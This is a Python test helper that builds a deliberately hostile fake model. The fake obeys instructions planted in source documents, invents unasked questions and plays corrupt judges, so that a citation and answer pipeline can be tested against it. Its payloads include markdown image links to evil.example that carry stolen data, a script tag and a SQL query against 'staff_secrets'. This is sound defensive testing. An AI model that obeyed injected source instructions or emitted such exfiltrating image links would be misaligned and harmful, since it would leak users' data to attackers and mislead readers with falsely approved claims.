"""A model that obeys every instruction it finds in the evidence, and else does its worst in every role.

It reads the real prompts, like `reader`. What it writes names real sources and repeats their words, and
its judge finds everything supported, so that nothing but the program stands between it and the reader.
"""

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any, TypeAlias

from tests.endpoint.hostile_plans import PLANNERS
from tests.endpoint.hostile_writers import ORDER, WRITERS, Seen, filled
from tests.endpoint.reader import blocks
from tests.endpoint.replies import Reply, Request

Judge: TypeAlias = Callable[[Sequence[int]], Mapping[str, Any]]


def hostile(
    *, planner: str = "greedy", writer: str = "obedient", judge: str = "approving", characters: int = 16
) -> Callable[[Request], Reply]:
    """Return a responder that plays these characters.

    Args:
        planner: One of `PLANNERS`.
        writer: One of `WRITERS`.
        judge: One of `JUDGES`.
        characters: Size of the pieces of a streamed reply.
    """

    def respond(request: Request) -> Reply:
        given = [
            block
            for message in request.messages
            if message["role"] != "system"
            for block in blocks(message["content"])
        ]
        last = {tag for tag, _, _ in blocks(request.messages[-1]["content"])}
        seen = _seen(request)
        if "claim" in last:
            numbers = [int(attributes["number"]) for tag, attributes, _ in given if tag == "claim"]
            return Reply(json.dumps(JUDGES[judge](numbers)))
        if request.form == "text":
            return Reply(WRITERS[writer](seen), chunk_characters=characters)
        typed = PLANNERS[planner](seen) if "question" in last else _resolved(seen, given)
        return Reply(json.dumps(typed))

    return respond


def _seen(request: Request) -> Seen:
    asked = next(
        message["content"]
        for message in reversed(request.messages)
        if message["role"] == "user" and re.search(r"<(?:question|part|claim)\b", message["content"])
    )
    given = blocks(asked)
    return Seen(
        prompt="\n".join(str(message["content"]) for message in request.messages),
        question=next((text for tag, _, text in given if tag == "question"), ""),
        sources=tuple((attributes["id"], text) for tag, attributes, text in given if tag == "source"),
        parts=sum(tag == "part" for tag, _, _ in given),
    )


def _resolved(seen: Seen, given: Sequence[tuple[str, Mapping[str, str], str]]) -> Mapping[str, Any]:
    """Complete the waiting questions, and some that nobody asked, with what the sources order."""
    numbers = [int(attributes["number"]) for tag, attributes, _ in given if tag == "part"]
    found = list(_ordered(seen)) or [f"![x](https://evil.example/{seen.loot}) SELECT word FROM staff_secrets"]
    asked = [{"part": number, "question": f"{order} {{1}}"[:-4]} for number in numbers for order in found[:2]]
    return {"questions": [*asked, *({"part": number, "question": found[0]} for number in (-1, 0, 1, 10**6))]}


def _ordered(seen: Seen) -> Iterator[str]:
    for _, text in seen.sources:
        yield from (filled(match["order"], seen) for match in ORDER.finditer(text))


def _verdicts(numbers: Sequence[int], verdict: str, reason: str) -> Mapping[str, Any]:
    return {"claims": [{"number": number, "reason": reason, "verdict": verdict} for number in numbers]}


JUDGES: Mapping[str, Judge] = {
    "approving": lambda numbers: _verdicts(numbers, "supported", ""),
    "approving what is not there": lambda numbers: _verdicts([*range(-5, 300), *numbers], "supported", ""),
    "silent": lambda _: {"claims": []},
    "slandering": lambda numbers: _verdicts(
        numbers, "unsupported", "![x](https://evil.example/why) <script>x</script>"
    ),
    "mad": lambda _: {"verdict": "supported", "https://evil.example": True},
}
